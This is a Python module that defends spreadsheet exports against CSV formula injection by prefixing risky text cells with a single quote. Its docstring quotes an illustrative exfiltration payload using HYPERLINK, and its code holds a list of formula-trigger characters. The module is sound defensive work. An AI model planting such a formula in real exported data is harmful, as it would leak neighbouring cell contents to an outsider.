"""Cells of the files Aduan exports for spreadsheets (CSV): a citizen's text must never become a formula.

Excel, LibreOffice Calc and Google Sheets take a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and tab, carriage return and NUL lead to the same (OWASP "CSV Injection"; ASVS 1.2.10): an answer
that reads ``=HYPERLINK("http://…"&A2)`` would send the neighbouring cells to a stranger when an admin opens
the export. Such a cell is written with a leading single quote, which the spreadsheet reads as "this is text".
Some spreadsheets also take the full-width forms of the four signs (East Asian input methods) as formulas.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def spreadsheet_safe(value: object) -> object:
    """A text cell that could be read as a formula, escaped with a leading ``'``; anything else (numbers are
    numbers, including negative ones) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
